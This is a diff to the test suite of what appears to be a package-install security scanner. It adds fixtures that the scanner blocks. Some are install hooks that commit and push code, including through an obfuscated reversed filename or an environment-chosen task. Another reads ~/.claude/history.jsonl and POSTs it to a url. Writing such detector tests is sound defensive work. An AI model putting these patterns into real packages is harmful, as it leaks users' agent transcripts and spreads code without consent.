@@ -469,8 +469,49 @@ describeVerdicts("WRM-02", {
   },
 });
 
+/** A file of tasks, one of which releases the package. */
+function tasks(rest = ""): string {
+  return `
+    const { execSync } = require("child_process");
+    function run(command) { execSync(command, { stdio: "inherit" }); }
+    switch (process.argv[2]) {
+      case "postinstall": { run("node-gyp-build"); ${rest} break; }
+      case "release": { run("git commit -am 'release'"); run("git push origin main"); break; }
+    }`;
+}
+
 describeVerdicts("WRM-03", {
   blocks: {
+    "a task that the hook asks for": {
+      manifest: { scripts: { postinstall: "node tasks.js release" } },
+      files: { "tasks.js": tasks() },
+    },
+    "a task that the file asks itself for": {
+      manifest: { scripts: { postinstall: "node tasks.js postinstall" } },
+      files: { "tasks.js": tasks('require("child_process").fork(__filename, ["release"]);') },
+    },
+    "a task that the file asks itself for by its name": {
+      manifest: { scripts: { postinstall: "node tasks.js postinstall" } },
+      files: { "tasks.js": tasks('run("node tasks.js release");') },
+    },
+    "a task that the file asks itself for by a name that it puts together": {
+      manifest: { scripts: { postinstall: "node tasks.js postinstall" } },
+      files: {
+        "tasks.js": tasks(
+          'const name = "sksat".split("").reverse().join(""); run("node " + name + ".js release");',
+        ),
+      },
+    },
+    "a task that one of two hooks asks for": {
+      manifest: {
+        scripts: { preinstall: "node tasks.js release", postinstall: "node tasks.js postinstall" },
+      },
+      files: { "tasks.js": tasks() },
+    },
+    "a task that somebody else's word decides": {
+      manifest: { scripts: { postinstall: "node tasks.js $TASK" } },
+      files: { "tasks.js": tasks() },
+    },
     "a push": atInstall(
       `require("child_process").execSync("git add -A && git commit -m x && git push");`,
     ),
@@ -478,6 +519,12 @@ describeVerdicts("WRM-03", {
     "at load": `require("child_process").exec("gh repo create x --public --push --source .");`,
   },
   passes: {
+    "a task of those who work on the package": {
+      manifest: {
+        scripts: { postinstall: "node tasks.js postinstall", release: "node tasks.js release" },
+      },
+      files: { "tasks.js": tasks() },
+    },
     "a release bot": asCommand(
       `require("child_process").execSync("git push --follow-tags", { stdio: "inherit" });`,
     ),
@@ -639,6 +686,9 @@ describeVerdicts("AGT-04", {
 
 describeVerdicts("AGT-05", {
   blocks: {
+    "transcripts, by a command": asCommand(`
+      const fs = require("fs"), os = require("os");
+      fetch("${url}", { method: "POST", body: fs.readFileSync(os.homedir() + "/.claude/history.jsonl", "utf8") });`),
     transcripts: `
       const fs = require("fs"), os = require("os");
       fetch("${url}", { method: "POST", body: fs.readFileSync(os.homedir() + "/.claude/history.jsonl", "utf8") });`,
@@ -648,6 +698,16 @@ describeVerdicts("AGT-05", {
     ),
   },
   passes: {
+    "a command that sets an agent up and counts that": asCommand(`
+      const fs = require("fs"), os = require("os"), https = require("https");
+      function count(event) { https.request("${url}", { method: "POST" }).end(JSON.stringify({ event })); }
+      function setUp() {
+        const file = os.homedir() + "/.codex/config.toml";
+        const before = fs.existsSync(file) ? fs.readFileSync(file, "utf8") : "";
+        console.log(before.includes("sample") ? "there already" : "add [mcp_servers.sample]");
+      }
+      setUp();
+      count("setup");`),
     "a viewer": asCommand(
       `console.log(require("fs").readFileSync(require("os").homedir() + "/.claude/history.jsonl", "utf8"));`,
     ),
